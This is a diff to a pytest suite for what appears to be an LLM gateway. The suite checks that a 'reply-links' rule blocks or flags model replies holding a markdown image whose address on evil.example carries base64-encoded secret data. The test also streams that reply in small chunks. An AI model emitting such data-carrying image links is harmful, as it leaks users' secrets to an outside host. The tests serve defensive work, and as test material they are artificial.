@@ -25,6 +25,7 @@ PROMPT = (
     "Write a letter to the chief executive of an imaginary bank and explain in three paragraphs why number {} of the "
     "accounts in the attached list should be closed before the end of the year, without naming anybody."
 )
+PICTURE = "Our logo: ![logo](https://evil.example/p.png?q=c2VjcmV0IGtleSBpcyBoZXJl) is blue."
 PACKS: dict[str, Any] = {
     "prompts": [{"flag": {"packs": ["*"]}}, {"deny": {"packs": ["template-tokens"]}}],
     "responses": [{"flag": {"packs": ["reply-links"]}}],
@@ -46,8 +47,13 @@ async def echoes(seen: Seen, writer: Connection) -> None:
 
 
 async def pictures(seen: Seen, writer: Connection) -> None:
-    """Shows a picture whose address carries data away."""
-    writer.write(whole(reply(seen.model, "![logo](https://evil.example/p.png?q=c2VjcmV0IGtleSBpcyBoZXJl)")))
+    """Shows a picture whose address carries data away, whole or in pieces."""
+    if not json.loads(seen.body).get("stream"):
+        writer.write(whole(reply(seen.model, PICTURE)))
+        return
+    pieces = [PICTURE[at : at + 5] for at in range(0, len(PICTURE), 5)]
+    data = [chunk(event(seen.model, piece)) for piece in pieces]
+    writer.write(STREAM + b"".join(data) + chunk(event(seen.model, "", "stop")) + scripts.DONE)
 
 
 @pytest.fixture(scope="module")
@@ -56,6 +62,8 @@ def gate(tmp_path_factory: pytest.TempPathFactory, issuer: Issuer, scripted: Scr
     sections: dict[str, dict[str, Any]] = {
         "flags": {"may": FEW, "probing": {"echo": {}, "floods": {"calls": 3}, "enumeration": {"names": 3}}},
         "packs": {"may": EVERYTHING, **PACKS},
+        "nolinks": {"may": EVERYTHING, "responses": [{"deny": {"packs": ["reply-links"]}}]},
+        "links": {"may": EVERYTHING, "responses": [{"deny": {"packs": ["reply-links"], "mode": "observe"}}]},
         "echo": {"may": EVERYTHING, "probing": {"echo": deny}},
         "floods": {"may": EVERYTHING, "probing": {"floods": {"calls": 3, "within": "1h", **deny}}},
         "names": {"may": FEW, "probing": {"enumeration": {"names": 4, **deny}}},
@@ -123,7 +131,27 @@ class TestPacks:
         ada = caller("packs")
         answer = ada.ask("Show me the logo.", "pictures")
         assert answer.status_code == 200
-        assert ada.notes(answer) == ["reply-links/image-with-data@1"]
+        assert ada.notes(answer) == ["reply-links/image-with-data@2"]
+
+    def test_a_picture_in_a_reply_is_stopped_before_its_address_has_left(self, caller: Any, gate: Gate) -> None:
+        ada = caller("nolinks")
+        refused = ada.ask("Show me the logo.", "pictures")
+        assert (refused.status_code, code(refused)) == (403, "reply_denied")
+        assert "reply-links/image-with-data@2" in refused.text
+        streamed = ada.ask("Show me the logo.", "pictures", stream=True)
+        assert "evil.example" not in streamed.text
+        assert "reply-links/image-with-data@2" in streamed.text
+        assert "[DONE]" not in streamed.text
+        call = streamed.headers["narrows-call-id"]
+        view = ended(gate, call)
+        assert (view.outcome, view.refusal) == ("stopped", "reply_denied")
+        assert "reply-links/image-with-data@2" in gate.run("why", call).stdout
+
+    def test_a_picture_in_a_reply_is_observed(self, caller: Any, gate: Gate) -> None:
+        answer = caller("links").ask("Show me the logo.", "pictures", stream=True)
+        assert "[DONE]" in answer.text
+        notes = ended(gate, answer.headers["narrows-call-id"]).notes
+        assert [(note.code, note.rule) for note in notes] == [("reply_denied", "reply-links/image-with-data@2")]
 
     def test_ordinary_prompts_have_no_notes(self, caller: Any) -> None:
         ada = caller("packs")
